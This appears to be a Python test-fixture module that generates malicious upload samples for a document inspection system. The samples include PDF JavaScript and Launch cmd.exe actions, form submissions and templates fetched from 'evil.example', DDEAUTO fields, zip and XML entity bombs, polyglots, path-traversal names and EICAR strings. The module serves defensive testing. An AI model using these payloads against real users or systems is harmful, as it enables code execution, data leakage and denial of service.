"""
Files that somebody might send to do harm, made here when they are needed.

Each is a row: the name it is sent under, what makes it, and which fault of it is told. ``None``: it
looks like a paper, so it is kept locked, and the virus scanner must find what is in it.
"""

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

from embedded.scanner import EICAR
from inspection.faults import Fault
from tests.design_system import files

MB = 1024 * 1024
NOT_TAKEN = "must be a PDF"
DISGUISED = "but its content is something else"
ZIP = files.zipped("a.txt")


@dataclass(frozen=True)
class Hostile:
    """One such file."""

    name: str
    make: Callable[[], bytes]
    told: str | None  # part of what the person is told; None: kept, for the scanner


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these numbered objects, the first being its catalogue, byte for byte."""
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    last = b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, trailer)
    return made + head + table + last + b"startxref\n%d\n%%%%EOF\n" % len(made)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def with_object(one: bytes, catalogue: bytes = b"") -> bytes:
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue, PAGES, PAGE, one)


def with_action(action: bytes) -> bytes:
    return with_object(b"<<%s>>" % action, b"/OpenAction 4 0 R")


def with_note(note: bytes) -> bytes:
    page = PAGE.replace(b">>", b"/Annots[4 0 R]>>")
    pages = (b"<</Type/Catalog/Pages 2 0 R>>", PAGES, page)
    return raw_pdf(*pages, b"<</Type/Annot/Rect[0 0 9 9]%s>>" % note)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def zeros(megabytes: int) -> bytes:
    """What unpacks to so many megabytes, itself a thousandth of that and made in no time."""
    packing = zlib.compressobj(9)
    block = packing.compress(bytes(MB)) + packing.flush(zlib.Z_FULL_FLUSH)
    again = packing.compress(bytes(MB)) + packing.flush(zlib.Z_FULL_FLUSH)
    return block + again * (megabytes - 1)


def locked(**passwords) -> bytes:
    return files.pdf(encryption=pikepdf.Encryption(**passwords), deterministic_id=False)


def hidden_in_an_object_stream() -> bytes:
    def change(paper):
        paper.Root.OpenAction = paper.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        )

    return files.pdf(change=change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_attachment() -> bytes:
    def change(paper):
        paper.attachments["tool.exe"] = b"MZ"

    return files.pdf(change=change)


def object_stream_bomb() -> bytes:
    packed = zeros(1500)
    return with_object(stream(packed, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"))


def picture_bytes(size: tuple[int, int] = (2, 2), **saving) -> bytes:
    return files.picture("PNG", size, **saving)


def thin_picture(size: tuple[int, int]) -> bytes:
    made = io.BytesIO()
    Image.new("1", size).save(made, "PNG")
    return made.getvalue()


def declared_picture(width: int, height: int) -> bytes:
    """A PNG that says that it is so large, and holds almost nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + header + pixels + chunk(b"IEND", b"")


def moving_picture() -> bytes:
    made = io.BytesIO()
    frames = [Image.new("RGB", (2, 2), colour) for colour in ("red", "blue")]
    frames[0].save(made, "PNG", save_all=True, append_images=frames[1:])
    return made.getvalue()


def eicar_picture() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", EICAR.decode())
    return picture_bytes(pnginfo=text)


def locked_word() -> bytes:
    """Every part says that it is encrypted."""
    content = bytearray(files.word())
    for mark, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + flags_at] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def lying_word() -> bytes:
    """A part that is larger than the list of parts says."""
    content = bytearray(files.word({"word/notes.xml": files.body(" " * 5_000_000)}))
    at = content.find(b"word/notes.xml", content.find(b"PK\x01\x02"))
    content[at - 46 + 24 : at - 46 + 28] = struct.pack("<I", 900)
    return bytes(content)


def word_and_pdf() -> bytes:
    """A Word document whose first part is the beginning of a PDF."""
    parts = {"%PDF-1.7": "", "[Content_Types].xml": "<x/>", "word/document.xml": "<x/>"}
    return files.zip_of(parts)


def related(kind: str, target: str, mode: str = "") -> bytes:
    rows = files.relations((kind, target, mode))
    return files.word({"word/_rels/document.xml.rels": rows})


def with_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return files.word({"word/document.xml": files.body(f"<w:p>{runs}</w:p>")})


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    f'<w:document xmlns:w="{files.WORD}">&b;</w:document>'
)
EICAR_PDF = with_object(stream(EICAR))
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_TYPE = files.MAIN.replace("document.main", "template.main")


def row(name: str, make: Callable[[], bytes] | bytes, told: str | Fault | None) -> Hostile:
    words = told.told if isinstance(told, Fault) else told
    return Hostile(name, make if callable(make) else lambda: make, words)


JS = b"/S/JavaScript/JS(app.alert\\(1\\))"
PDFS = {
    "script at opening": row("a.pdf", lambda: with_action(JS), Fault.SCRIPT),
    "script by another spelling": row(
        "a.pdf", lambda: with_action(b"/S/J#61vaScript/J#53(x)"), Fault.SCRIPT
    ),
    "script in no page": row("a.pdf", lambda: with_object(b"<<%s>>" % JS), Fault.SCRIPT),
    "script deep inside": row(
        "a.pdf", lambda: with_object(b"[[[<</A[<<%s>>]>>]]]" % JS), Fault.SCRIPT
    ),
    "script by name": row(
        "a.pdf",
        lambda: with_object(b"<<%s>>" % JS, b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"),
        Fault.SCRIPT,
    ),
    "script in an object stream": row("a.pdf", hidden_in_an_object_stream, Fault.SCRIPT),
    "script of a film": row("a.pdf", lambda: with_action(b"/S/Rendition/OP 0"), Fault.SCRIPT),
    "rich media": row("a.pdf", lambda: with_note(b"/Subtype/RichMedia"), Fault.SCRIPT),
    "launch": row("a.pdf", lambda: with_action(b"/S/Launch/F(cmd.exe)"), Fault.OUTWARD),
    "send the form": row(
        "a.pdf", lambda: with_action(b"/S/SubmitForm/F(http://evil.example/)"), Fault.OUTWARD
    ),
    "import data": row("a.pdf", lambda: with_action(b"/S/ImportData/F(x)"), Fault.OUTWARD),
    "go to another file": row(
        "a.pdf", lambda: with_action(b"/S/GoToR/F(\\\\\\\\evil\\\\x)/D[0/Fit]"), Fault.OUTWARD
    ),
    "content elsewhere": row(
        "a.pdf", lambda: with_object(stream(b"", b"/F(http://evil.example/)")), Fault.OUTWARD
    ),
    "go to a file inside": row("a.pdf", lambda: with_action(b"/S/GoToE"), Fault.ENCLOSED),
    "attachment": row("a.pdf", with_attachment, Fault.ENCLOSED),
    "attachment as a note": row(
        "a.pdf", lambda: with_note(b"/Subtype/FileAttachment"), Fault.ENCLOSED
    ),
    "portfolio": row(
        "a.pdf", lambda: with_object(b"<<>>", b"/Collection<</View/D>>"), Fault.ENCLOSED
    ),
    "film": row("a.pdf", lambda: with_note(b"/Subtype/Movie"), Fault.ENCLOSED),
    "form by program": row(
        "a.pdf", lambda: with_object(stream(b"<xdp/>"), b"/AcroForm<</XFA 4 0 R>>"), Fault.FORM
    ),
    "locked": row("a.pdf", lambda: locked(user="x", owner="y"), Fault.LOCKED),
    "locked for changes": row("a.pdf", lambda: locked(user="", owner="y"), Fault.LOCKED),
    "bomb": row(
        "a.pdf", lambda: with_object(stream(zeros(20), b"/Filter/FlateDecode")), Fault.EXPANDS
    ),
    "bomb in a bomb": row(
        "a.pdf",
        lambda: with_object(
            stream(zlib.compress(zeros(500)), b"/Filter[/FlateDecode/FlateDecode]")
        ),
        Fault.EXPANDS,
    ),
    "bomb of objects": row("a.pdf", object_stream_bomb, Fault.EXPANDS),
    "501 pages": row("a.pdf", lambda: files.pdf(501), Fault.PAGES),
    "no pages": row("a.pdf", lambda: files.pdf(0), Fault.NO_PAGES),
    "huge picture": row(
        "a.pdf",
        lambda: with_object(stream(b"x", b"/Subtype/Image/Width 1/Height 60000")),
        Fault.PIXELS,
    ),
    "truncated": row("a.pdf", lambda: files.pdf(9)[:-200], Fault.TWO_THINGS),
    "broken table": row(
        "a.pdf", lambda: files.PDF.replace(b"startxref\n", b"startxref\n9"), Fault.UNREADABLE
    ),
    "only a beginning": row("a.pdf", b"%PDF-1.7\n%%EOF\n", Fault.UNREADABLE),
    "archive after the end": row("a.pdf", files.PDF + ZIP, Fault.TWO_THINGS),
    "archive before the end": row("a.pdf", files.PDF + ZIP + b"\n%%EOF\n", Fault.TWO_THINGS),
    "page in the head": row(
        "a.pdf", b"%PDF-1.7\n%<html><script>alert(1)</script>\n" + files.PDF, Fault.TWO_THINGS
    ),
}
WORDS = {
    "macros": row("a.docx", lambda: files.docx("word/vbaProject.bin"), Fault.MACROS),
    "macros by type": row("a.docx", lambda: files.word(main=MACRO_TYPE), Fault.MACROS),
    "macros by relation": row("a.docx", lambda: related("vbaProject", "hidden.xml"), Fault.MACROS),
    "a template": row("a.docx", lambda: files.word(main=TEMPLATE_TYPE), Fault.ODD_PARTS),
    "template elsewhere": row(
        "a.docx",
        lambda: related("attachedTemplate", "http://evil.example/a.dotm", "External"),
        Fault.OUTWARD,
    ),
    "picture elsewhere": row(
        "a.docx", lambda: related("image", "\\\\evil\\a.png", "External"), Fault.OUTWARD
    ),
    "OLE object": row("a.docx", lambda: related("oleObject", "x.bin"), Fault.ENCLOSED),
    "OLE by content": row(
        "a.docx",
        lambda: files.word({"word/x.bin": b"\xd0\xcf\x11\xe0" + bytes(99)}),
        Fault.ENCLOSED,
    ),
    "program": row("a.docx", lambda: files.word({"word/x.dat": b"MZ" + bytes(99)}), Fault.ENCLOSED),
    "nested archive": row("a.docx", lambda: files.word({"word/a.zip": ZIP}), Fault.ENCLOSED),
    "nested archive as a picture": row(
        "a.docx", lambda: files.word({"word/media/image1.png": ZIP}), Fault.ENCLOSED
    ),
    "nested tar": row(
        "a.docx", lambda: files.word({"word/a": bytes(257) + b"ustar" + bytes(99)}), Fault.ENCLOSED
    ),
    "page as a part": row("a.docx", lambda: related("aFChunk", "a.html"), Fault.ENCLOSED),
    "control": row("a.docx", lambda: related("control", "a.xml"), Fault.ACTIVE),
    "field that runs": row("a.docx", lambda: with_field("DD", "EAUTO c:\\cmd.exe"), Fault.ACTIVE),
    "field that fetches": row(
        "a.docx", lambda: with_field(' INCLUDEPICTURE "http://evil.example/"'), Fault.ACTIVE
    ),
    "simple field that runs": row(
        "a.docx",
        lambda: files.word({"word/document.xml": files.body('<w:fldSimple w:instr="DDE cmd"/>')}),
        Fault.ACTIVE,
    ),
    "bomb": row("a.docx", lambda: files.word({"word/a.xml": " " * 20 * MB}), Fault.EXPANDS),
    "bomb of many parts": row(
        "a.docx", lambda: files.docx(*(f"word/{n}.xml" for n in range(2001))), Fault.EXPANDS
    ),
    "bomb that lies": row("a.docx", lying_word, Fault.UNREADABLE),
    "laughs": row("a.docx", lambda: files.word({"word/document.xml": LAUGHS}), Fault.ODD_PARTS),
    "part outside": row("a.docx", lambda: files.docx("../../evil.xml"), Fault.ODD_PARTS),
    "part twice": row("a.docx", lambda: files.docx("WORD/document.xml"), Fault.ODD_PARTS),
    "locked": row("a.docx", locked_word, Fault.LOCKED),
    "more after the end": row(
        "a.docx", lambda: files.word() + b"<script>alert(1)</script>", Fault.TWO_THINGS
    ),
    "archive before the beginning": row("a.docx", lambda: ZIP + files.word(), Fault.TWO_THINGS),
    "PDF in the head": row("a.docx", word_and_pdf, Fault.TWO_THINGS),
    "truncated": row("a.docx", lambda: files.word()[:-100], DISGUISED),
    "any archive": row("a.docx", ZIP, DISGUISED),
}
PICTURES = {
    "1 by 60,000": row("a.png", lambda: thin_picture((1, 60_000)), Fault.PIXELS),
    "81 million pixels": row("a.png", lambda: thin_picture((9_000, 9_000)), Fault.PIXELS),
    "says ten thousand million": row(
        "a.png", lambda: declared_picture(100_000, 100_000), Fault.PIXELS
    ),
    "less than it says": row("a.png", lambda: declared_picture(500, 500), Fault.UNREADABLE),
    "truncated": row("a.png", lambda: picture_bytes(size=(90, 90))[:-40], Fault.UNREADABLE),
    "moving": row("a.png", moving_picture, Fault.MOVES),
    "archive after the end": row("a.png", lambda: files.png() + ZIP, Fault.TWO_THINGS),
    "page after the end": row(
        "a.png", lambda: files.png() + b"<script>alert(1)</script>", Fault.TWO_THINGS
    ),
    "truncated JPG": row("a.jpg", lambda: files.picture("JPEG", (90, 90))[:400], Fault.UNREADABLE),
    "JPG and archive": row("a.jpg", lambda: files.JPG + ZIP, Fault.TWO_THINGS),
    "JPG and page": row(
        "a.jpg",
        lambda: files.picture("JPEG", comment=b"<html><script>alert(1)</script>"),
        Fault.TWO_THINGS,
    ),
    "JPG and PDF": row(
        "a.jpg", lambda: files.picture("JPEG", comment=b"%PDF-1.7"), Fault.TWO_THINGS
    ),
}
NAMES = {
    "HTML as PDF": row("a.pdf", b"<html><script>alert(1)</script></html>", DISGUISED),
    "SVG as PDF": row("a.pdf", b'<svg onload="alert(1)"/>', DISGUISED),
    "SVG as PNG": row("a.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>', DISGUISED),
    "program as PDF": row("a.pdf", b"MZ" + bytes(500), DISGUISED),
    "program before a PDF": row("a.pdf", b"MZ" + bytes(500) + files.PDF, DISGUISED),
    "Word as PDF": row("a.pdf", files.word, DISGUISED),
    "GIF as PNG": row("a.png", files.GIF, DISGUISED),
    "SVG": row("a.svg", b'<svg onload="alert(1)"/>', NOT_TAKEN),
    "archive": row("a.zip", ZIP, NOT_TAKEN),
    "two endings": row("letter.pdf.exe", files.PDF, NOT_TAKEN),
    "two endings, the other way": row("letter.exe.pdf", files.PDF, "with “.exe” in it"),
    "ending turned round": row("letter\u202efdp.exe", files.PDF, NOT_TAKEN),
    "NUL": row("letter.pdf\x00.exe", files.PDF, "with “.exe” in it|must be a PDF"),
    "no name": row(" ", files.PDF, NOT_TAKEN),
    "empty": row("a.pdf", b"", "is empty"),
}
VIRUSES = {
    "test virus": row("a.pdf", EICAR, DISGUISED),
    "in a PDF": row("a.pdf", EICAR_PDF, None),
    "in a PDF with a path": row("../../etc/cron.d/a.pdf", EICAR_PDF, None),
    "in a PDF with a Windows path": row("C:\\Windows\\a.pdf", EICAR_PDF, None),
    "in a PDF turned round": row("\u202egpj.a.pdf", EICAR_PDF, None),
    "in a PDF with a long name": row("a" * 300 + ".pdf", EICAR_PDF, None),
    "in a PDF with line ends": row("a\r\nX-Evil: 1.pdf", EICAR_PDF, NOT_TAKEN),
    "in a Word document": row(
        "a.docx", lambda: files.word({"word/x.txt": EICAR}, compression=0), None
    ),
    "in a PNG": row("a.png", eicar_picture, None),
    "in a JPG": row("a.jpg", lambda: files.picture("JPEG", comment=EICAR), None),
}
ALL = {
    f"{group}: {name}": one
    for group, rows in {
        "PDF": PDFS,
        "Word": WORDS,
        "picture": PICTURES,
        "name": NAMES,
        "virus": VIRUSES,
    }.items()
    for name, one in rows.items()
}
